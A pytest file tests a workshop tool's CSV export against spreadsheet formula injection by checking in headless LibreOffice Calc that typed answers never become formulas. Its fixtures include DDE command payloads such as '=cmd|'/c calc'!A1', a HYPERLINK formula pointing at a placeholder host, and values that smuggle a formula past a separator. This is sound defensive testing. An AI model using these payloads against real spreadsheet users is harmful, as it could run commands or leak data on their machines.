"""The CSV export against someone in the room who types a formula: opened in a real LibreOffice
Calc (headless), with the comma we write and with the semicolon much of Europe uses, no cell
becomes a formula, a link or a DDE call, and scale numbers stay numbers."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import xml.etree.ElementTree as ET
import zipfile
from datetime import datetime
from pathlib import Path

import pytest
import yaml

from workshop import export_files
from workshop.content import load_library
from workshop.service import Workshop
from workshop.storage.exports import EXPORT_COLUMNS

# What a participant can type, as typed; the answer cleaner turns tabs into spaces and drops
# CR and NUL, so those reach the exporter only in the direct tests below.
HOSTILE_TEXTS = [
    "=1+1",
    'x;=HYPERLINK("http://e/"&A2)',
    "+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "-2+3",
    "a,=1+1",
    "a\t=1+1",
    "\t=1+1",
    "=cmd|'/c calc'!A1",
    'a;"=1+1',
    " =1+1",
    "-2",
]
SCALE_VALUES = [-2, -5, 5, 0]

# (raw cell, CSV cell): a ' before every part that would start a formula, numbers untouched.
NEUTRALISED = [
    ("=1+1", "'=1+1"),
    ('x;=HYPERLINK("http://e/"&A2)', 'x;\'=HYPERLINK("http://e/"&A2)'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("-2+3", "'-2+3"),
    ("a,=1+1", "a,'=1+1"),
    ("a\t=1+1", "a\t'=1+1"),
    ("\t=1+1", "'\t'=1+1"),
    ("\r=1+1", "'\r'=1+1"),
    ("\0=1+1", "'\0=1+1"),
    ("a\n=1+1", "a\n'=1+1"),
    ("a\r\n@x", "a\r\n'@x"),
    ("=cmd|'/c calc'!A1", "'=cmd|'/c calc'!A1"),
    ('a;"=1+1', 'a;"\'=1+1'),
    (" =1+1", " '=1+1"),
    ("a ; -b", "a ; '-b"),
    ("-2", "-2"),
    ("-2.5", "-2.5"),
    ("x;-2", "x;'-2"),
    ("well-being, ok", "well-being, ok"),
    ("", ""),
]

TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
SEPARATORS = {",": "44", ";": "59", "tab": "9", ", ; and tab at once": "44/59/9"}


@pytest.mark.parametrize(("raw", "cell"), NEUTRALISED)
def test_every_part_of_a_cell_that_would_start_a_formula_gets_a_quote_before_it(raw, cell):
    assert export_files.neutralised(raw) == cell
    assert export_files.neutralised(cell) == cell        # already safe text is left alone


def test_every_text_cell_is_quoted_and_numbers_are_not():
    row = ("ABCDEF", 2, "feeling-scale", None, "-2", True, "=1+1", datetime(2026, 12, 2, 10, 4))
    assert export_files.csv_text([row]) == \
        '"ABCDEF",2,"feeling-scale","","-2","true","\'=1+1","2026-12-02 10:04"\r\n'


@pytest.fixture
def soffice() -> str:
    path = shutil.which("soffice")
    if path is None:
        pytest.skip("LibreOffice is not installed here (apt-get install libreoffice-calc-nogui); "
                    ".ci/run installs it, so CI runs this test")
    return path


def shown_text(cell: ET.Element) -> str:
    """A cell's text as Calc holds it: paragraphs, with ODF's space, tab and line-break elements."""
    def walk(element: ET.Element) -> str:
        parts = [element.text or ""]
        for child in element:
            if child.tag == f"{TEXT}s":
                parts.append(" " * int(child.get(f"{TEXT}c", "1")))
            elif child.tag == f"{TEXT}tab":
                parts.append("\t")
            elif child.tag == f"{TEXT}line-break":
                parts.append("\n")
            else:
                parts.append(walk(child))
            parts.append(child.tail or "")
        return "".join(parts)
    return "\n".join(walk(p) for p in cell.findall(f"{TEXT}p"))


def calc_import(soffice: str, files: list[Path], separator: str, work: Path) -> dict[str, list[list[tuple]]]:
    """Open CSV files in LibreOffice Calc as a person would, formulas evaluated, and read the sheets.

    Each run gets its own profile so parallel test runs never share one. Returns, per file,
    rows of (formula or None, value type, shown text, office:value) per cell.
    """
    out = work / f"out-{SEPARATORS[separator].replace('/', '-')}"
    # Tokens: separator, text delimiter ", UTF-8, from line 1, no column formats, language,
    # quoted field as text: no, detect special numbers: yes, (2 export-only), trim spaces: no,
    # (sheet), evaluate formulas: yes -- the most trusting import a person can choose.
    options = f"{SEPARATORS[separator]},34,76,1,,0,false,true,false,false,false,-1,true"
    subprocess.run(
        [soffice, f"-env:UserInstallation={(work / 'profile').as_uri()}", "--headless",
         f"--infilter=Text - txt - csv (StarCalc):{options}", "--convert-to", "fods",
         "--outdir", str(out), *map(str, files)],
        check=True, capture_output=True, timeout=120)
    sheets = {}
    for file in files:
        root = ET.parse(out / f"{file.stem}.fods").getroot()
        rows = []
        for row in root.iter(f"{TABLE}table-row"):
            cells = []
            for cell in row.iter(f"{TABLE}table-cell"):
                text = shown_text(cell)
                repeat = int(cell.get(f"{TABLE}number-columns-repeated", "1"))
                described = (cell.get(f"{TABLE}formula"), cell.get(f"{OFFICE}value-type"), text,
                             cell.get(f"{OFFICE}value"))
                cells.extend([described] * (repeat if repeat < 100 else 1))
            rows.append(cells)
        sheets[file.stem] = rows
    return sheets


@pytest.fixture
def hostile_workshop(store, tmp_path: Path) -> Workshop:
    """A session's worth of content: one text step and one scale from -5 to 5."""
    content = tmp_path / "content"
    (content / "exercises").mkdir(parents=True)
    (content / "agendas").mkdir()
    exercises = {"domain": "general", "exercises": [
        {"id": "open-text", "title": "Anything", "type": "text", "prompt": "Type anything.",
         "minutes": 2, "notes": "Test exercise."},
        {"id": "feeling-scale", "title": "Feeling", "type": "scale", "prompt": "How do you feel?",
         "settings": {"min": -5, "max": 5}, "minutes": 2, "notes": "Test exercise."}]}
    agenda = {"id": "hostile", "title": "Hostile room", "minutes": 10, "description": "Test agenda",
              "steps": ["open-text", "feeling-scale"]}
    (content / "exercises" / "test.yaml").write_text(yaml.safe_dump(exercises), encoding="utf-8")
    (content / "agendas" / "hostile.yaml").write_text(yaml.safe_dump(agenda), encoding="utf-8")
    library = load_library(content)
    assert library.errors == []
    return Workshop(store, library)


def test_no_typed_answer_becomes_a_formula_in_libreoffice_with_comma_or_semicolon(
        hostile_workshop, soffice, tmp_path):
    ws = hostile_workshop
    session = ws.start_session("hostile")
    tokens = [ws.join(session.code)[1] for _ in HOSTILE_TEXTS]
    ws.go_to_step(session.code, 0)
    for token, text in zip(tokens, HOSTILE_TEXTS):
        ws.submit(session.code, token, 0, text)
    ws.go_to_step(session.code, 1)
    for token, value in zip(tokens, SCALE_VALUES):
        ws.submit(session.code, token, 1, value)
    with zipfile.ZipFile(io.BytesIO(export_files.csv_zip(ws.store, session))) as archive:
        archive.extractall(tmp_path / "zip")
    answers = tmp_path / "zip" / export_files.filename(session, "answers.csv")
    # The exporter itself, fed what the answer cleaner would never let through.
    direct = tmp_path / "direct.csv"
    direct.write_text("\ufeff" + export_files.csv_text(
        [("value",), *[(raw,) for raw, _ in NEUTRALISED if raw]]), encoding="utf-8", newline="")
    files = [answers, tmp_path / "zip" / "data_dictionary.csv", direct]

    # What Python's csv module reads is what a careful reader gets: the text, behind a '.
    header, *rows = list(csv.reader(io.StringIO(answers.read_text(encoding="utf-8-sig"))))
    value_at = header.index("value")
    stored = {(r[header.index("step")], r[value_at]) for r in rows}
    assert stored == ({("1", export_files.neutralised(" ".join(t.split()))) for t in HOSTILE_TEXTS}
                      | {("2", str(v)) for v in SCALE_VALUES})

    for run, separator in enumerate(SEPARATORS):
        sheets = calc_import(soffice, files, separator, tmp_path / f"run-{run}")
        cells = [cell for sheet in sheets.values() for row in sheet for cell in row]
        assert [c for c in cells if c[0] is not None] == [], separator          # no formula at all
        assert [c for c in cells if c[1] == "string" and c[2][:1] in "=+-@\t\r"] == [], separator
        if separator == ",":
            calc_header, *calc_rows = sheets[answers.stem]
            assert [c[2] for c in calc_header] == list(EXPORT_COLUMNS)
            texts = sorted(row[value_at][2] for row in calc_rows if row[value_at][1] == "string")
            assert texts == sorted(export_files.neutralised(" ".join(t.split())) for t in HOSTILE_TEXTS
                                   if t != "-2")
            numbers = sorted((row[value_at][1], row[value_at][3]) for row in calc_rows
                             if row[value_at][1] == "float")
            # The typed "-2" and the scale's -2, -5, 5, 0 are all numbers, not text.
            assert numbers == sorted(("float", str(v)) for v in [-2, *SCALE_VALUES])
            # Calc drops NUL and holds a CR (or CR LF) inside a cell as a line break.
            assert [row[0][2] for row in sheets["direct"]] == ["value", *[
                cell.replace("\0", "").replace("\r\n", "\n").replace("\r", "\n")
                for raw, cell in NEUTRALISED if raw]]
